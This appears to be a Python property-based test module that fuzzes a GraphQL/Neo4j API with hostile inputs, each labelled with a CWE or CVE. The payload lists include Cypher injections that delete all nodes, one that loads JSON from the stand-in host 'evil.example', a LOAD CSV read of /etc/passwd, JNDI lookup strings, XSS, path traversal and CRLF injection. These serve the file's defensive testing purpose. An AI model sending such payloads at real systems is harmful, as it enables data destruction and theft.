"""Hostile values: forged cursors, ids of other types, text that some other language would run."""

from __future__ import annotations

from base64 import urlsafe_b64encode
from typing import Any, Final

from hypothesis import strategies as st

from tests.api.hostile.attack import BAD_INPUT, BAD_QUERY, BAD_REQUEST, OK, READING, Attack, Call, asked, attack

CURSOR: Final = "query Q($t: String!) { rings(after: $t) { nodes { id } } }"
FIELDS: Final = (
    "query Q($t: ID!) { ring(id: $t) { id notes { id } } }",
    "query Q($t: ID!) { account(id: $t) { id } }",
    "query Q($t: ID!) { node(id: $t) { nodeId } }",
    "query Q($t: String!) { search(text: $t) { hits { __typename } } }",
    "query Q($t: ID!) { rings(filter: {ids: [$t]}) { nodes { id } } }",
    "query Q($t: String!) { identifier(kind: CLIENT, value: $t) { degree } }",
    "query Q($t: ID!) { explain(a: $t, b: $t) { bits } }",
    "query Q($t: ID!) { path(a: $t, b: $t) { found } }",
    "query Q($t: ID!) { neighbourhood(account: $t) { truncated } }",
    "query Q($t: ID!) { job(id: $t) { id } }",
)
"""Fields that take a text."""
CYPHER: Final = (
    "' OR 1=1 //", '"}) DETACH DELETE n //', "`) MATCH (n) DETACH DELETE n //", "x' UNION MATCH (m:Meta) RETURN m //",
    "$after", "\\u0027 RETURN 1", "'}) CALL apoc.load.json('http://evil.example') YIELD value RETURN value //",
    "' LOAD CSV FROM 'file:///etc/passwd' AS l //", "1 RETURN 1; DROP CONSTRAINT x", "/* */", "`",
)  # fmt: skip
LUCENE: Final = (
    "*:*",
    "/.*/",
    "a~99",
    "(" * 300,
    "a OR " * 300,
    "[* TO *]",
    "\\",
    '"',
    "id:*",
    "a^999",
    "+-&&||!",
    "?*?*?*",
)
TEXTS: Final = (
    "a\x00b", "\x00", "\u202eevil", "\ufeff", "e\u0301" * 500, "\U0010ffff", "%s%n%x", "{{7*7}}", "${jndi:ldap://x}",
    "<script>alert(1)</script>", "../../etc/passwd", "\r\nSet-Cookie: a=b", "\u2028", "İ" * 1000, "9" * 5000,
)  # fmt: skip


def texts(*samples: str) -> st.SearchStrategy[Call]:
    return st.builds(lambda query, text: asked(query, {"t": text}), st.sampled_from(FIELDS), st.sampled_from(samples))


def forged(position: Any) -> Call:
    raw = b"\0" * 16 + f'["rings",{position}]'.encode()
    return asked(CURSOR, {"t": urlsafe_b64encode(raw).decode()})


def limits_of(name: str, value: Any) -> Call:
    return asked(f"query Q($v: Long!) {{ rings(filter: {{{name}: $v}}) {{ nodes {{ id }} }} }}", {"v": value})


def traffic(start: str, zone: str) -> Call:
    return asked(
        'query Q($d: Date!, $z: String!) { ring(id: "R-AAAAAAAAAA") { traffic(from: $d, until: "2026-03-09", '
        "timezone: $z, bucket: HOUR) { total { exchanges } } } }",
        {"d": start, "z": zone},
    )


ANYTHING: Final = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=8),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner, max_size=3),
    max_leaves=5,
)

VALUES: Final[tuple[Attack, ...]] = (
    attack("forged cursors", "Relay cursor specification: opaque; CWE-565",
           st.one_of(st.text(max_size=80).map(lambda t: asked(CURSOR, {"t": t})),
                     st.sampled_from(["[0,0]", "null", '{"$where":1}', '"x"']).map(forged)), BAD_INPUT),
    attack("cursors of impossible length", "CWE-400",
           st.integers(1000, 60_000).map(lambda n: asked(CURSOR, {"t": "A" * n})), BAD_INPUT),
    attack("ids of other types", "CVE-2025-22151 (strawberry: node type confusion)",
           st.builds(lambda kind, key: asked("query Q($t: ID!) { node(id: $t) { __typename nodeId } }",
                                             {"t": f"{kind}:{key}"}),
                     st.sampled_from(["Ring", "Account", "Identifier", "Judgement", "Token", "Meta", "__Type", "ring",
                                      ""]),
                     st.sampled_from(["R-SSSSSSSSSS", "acct-99999", "pi-1", "ip:198.51.100.7:", ":", "*", "1"])),
           OK, BAD_INPUT, "NOT_FOUND"),
    attack("Cypher in values", "CVE-2024-8309 (LangChain: Cypher injection); OWASP: injection",
           texts(*CYPHER), *READING),
    attack("names of properties in values", "CVE-2026-46591 (Camel: keys into queries)",
           st.builds(lambda key, value: asked("query Q($f: RingFilter) { rings(filter: $f) { nodes { id } } }",
                                              {"f": {key: value}}),
                     st.sampled_from(["ids) DETACH DELETE n //", "`x`", "min_size", "__class__", "$where", "minSize "]),
                     ANYTHING), BAD_QUERY),
    attack("search syntax in values", "CWE-943; Lucene query syntax (Neo4j full-text)",
           st.builds(lambda text: asked("query Q($t: String!) { search(text: $t) { hits { __typename } } }",
                                        {"t": text}),
                     st.sampled_from(LUCENE) | st.text('*?~^"()[]{}:/\\+-&|! ab', max_size=60)), *READING),
    attack("odd characters", "Unicode TR 36; CWE-176", texts(*TEXTS), *READING),
    attack("halves of surrogate pairs", "RFC 8259 8.2; CWE-176",
           st.sampled_from(["\\ud83d", "\\ude00\\ud83d", "a\\udfff"]).map(lambda text: Call(
               b'{"query": "query Q($t: ID!) { ring(id: $t) { id } }", "variables": {"t": "' + text.encode() + b'"}}')),
           BAD_REQUEST),
    attack("values of other types", "CWE-843 type confusion; GraphQL spec 6.1.2",
           st.builds(lambda query, value: asked(query, {"t": value}), st.sampled_from(FIELDS), ANYTHING),
           BAD_REQUEST, *READING),
    attack("numbers beyond 64 bits", "GraphQL spec 3.5.1; CWE-190",
           st.builds(limits_of, st.sampled_from(["minExchanges", "maxExchanges"]),
                     st.integers(-(2**70), 2**70) | st.floats() | st.sampled_from(["9" * 100, "x", "1e3", True])),
           BAD_REQUEST, *READING),
    attack("days at the end of time", "CWE-190; ISO 8601",
           st.builds(traffic, st.sampled_from(["0001-01-01", "9999-12-31", "2026-02-30", "-1", "2026-03-01T25:00", ""]),
                     st.just("UTC")), *READING),
    attack("time zones that are paths", "CWE-22; zoneinfo keys",
           st.builds(traffic, st.just("2026-03-08"),
                     st.sampled_from(["../../etc/passwd", "/etc/passwd", "\x00", "UTC/../UTC", "a" * 5000, "",
                                      "Etc/GMT+99"])),
           BAD_INPUT),
    attack("variables nobody declared", "GraphQL spec 6.1.2",
           st.dictionaries(st.text(max_size=20), ANYTHING, max_size=20).map(
               lambda more: asked("{ viewer { name } }", more)), OK, BAD_REQUEST),
)  # fmt: skip
